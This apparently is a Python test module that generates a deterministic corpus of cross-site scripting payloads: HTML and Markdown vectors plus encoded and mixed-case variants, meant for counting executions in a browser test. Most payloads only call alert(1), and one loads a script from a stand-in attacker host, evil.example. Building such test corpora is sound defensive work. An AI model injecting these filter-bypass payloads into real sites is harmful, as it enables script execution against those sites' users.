"""A deterministic corpus of XSS payloads, built from base vectors and their variants.

Every payload that could run calls alert(), so a browser test can count executions.
"""
from __future__ import annotations

import html
import urllib.parse

JS = "alert(1)"

BASE: list[str] = [
    f"<script>{JS}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={JS}>",
    f"<img src=\"x\" onerror=\"{JS}\">",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><a xlink:href=\"javascript:{JS}\"><text>x</text></a></svg>",
    f"<body onload={JS}>",
    f"<iframe src=\"javascript:{JS}\"></iframe>",
    f"<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
    f"<object data=\"javascript:{JS}\"></object>",
    f"<embed src=\"javascript:{JS}\">",
    f"<a href=\"javascript:{JS}\">x</a>",
    f"<a href=\"jav&#x09;ascript:{JS}\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    f"<form action=\"javascript:{JS}\"><button>x</button></form>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<marquee onstart={JS}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<style>@import 'javascript:{JS}';</style>",
    f"<link rel=stylesheet href=\"javascript:{JS}\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{JS}\">",
    f"<base href=\"javascript:{JS}//\">",
    f"<div style=\"background:url(javascript:{JS})\">x</div>",
    f"\"><script>{JS}</script>",
    f"'><script>{JS}</script>",
    f"\" onmouseover=\"{JS}",
    f"' onmouseover='{JS}",
    f"\" autofocus onfocus=\"{JS}\" x=\"",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"</script><img src=x onerror={JS}>",
    f"<!--<script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
    f"]]><script>{JS}</script>",
    f"<?xml version=\"1.0\"?><script>{JS}</script>",
    "{{7*7}}<script>alert(1)</script>",
    "${alert(1)}",
    f"`-{JS}-`",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<ScRiPt>{JS}</sCrIpT>",
    f"<IMG SRC=JaVaScRiPt:{JS}>",
    f"<img src=`javascript:{JS}`>",
    f"<img \"\"\"><script>{JS}</script>\">",
    f"<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}\">x</a>",
    f"<a href=\"\\x6Aavascript:{JS}\">x</a>",
    f"<svg/onload={JS}>",
    f"<x onclick={JS}>click</x>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\">",
    f"<template><script>{JS}</script></template>",
    f"<portal src=\"javascript:{JS}\">",
    f"<isindex type=image src=1 onerror={JS}>",
    f"<table background=\"javascript:{JS}\">",
    f"<button formaction=\"javascript:{JS}\">x</button>",
]

MARKDOWN: list[str] = [
    f"[click](javascript:{JS})",
    f"[click](JavaScript:{JS})",
    f"[click]( javascript:{JS} )",
    f"[click](javascript&#58;{JS})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    f"![img](javascript:{JS})",
    f"![img](x\" onerror=\"{JS})",
    f"[click](https://example.org\" onclick=\"{JS})",
    f"<javascript:{JS}>",
    f"<data:text/html,<script>{JS}</script>>",
    f"[ref]\n\n[ref]: javascript:{JS}",
    f"[click](#\" onmouseover=\"{JS})",
    f"```\n</code><script>{JS}</script>\n```",
    f"`</code><script>{JS}</script>`",
]


def _variants(payload: str) -> list[str]:
    """The payload as written, mixed-case, HTML-entity-encoded, URL-encoded and padded."""
    swapped = "".join(c.upper() if i % 2 else c for i, c in enumerate(payload))
    return [payload, swapped, html.escape(payload), urllib.parse.quote(payload, safe=""),
            f"x{payload}x", payload.replace("alert(1)", "alert`1`")]


def corpus() -> list[str]:
    """All payloads, deduplicated, in a fixed order."""
    found: dict[str, None] = {}
    for payload in BASE + MARKDOWN:
        for variant in _variants(payload):
            found.setdefault(variant, None)
    return list(found)
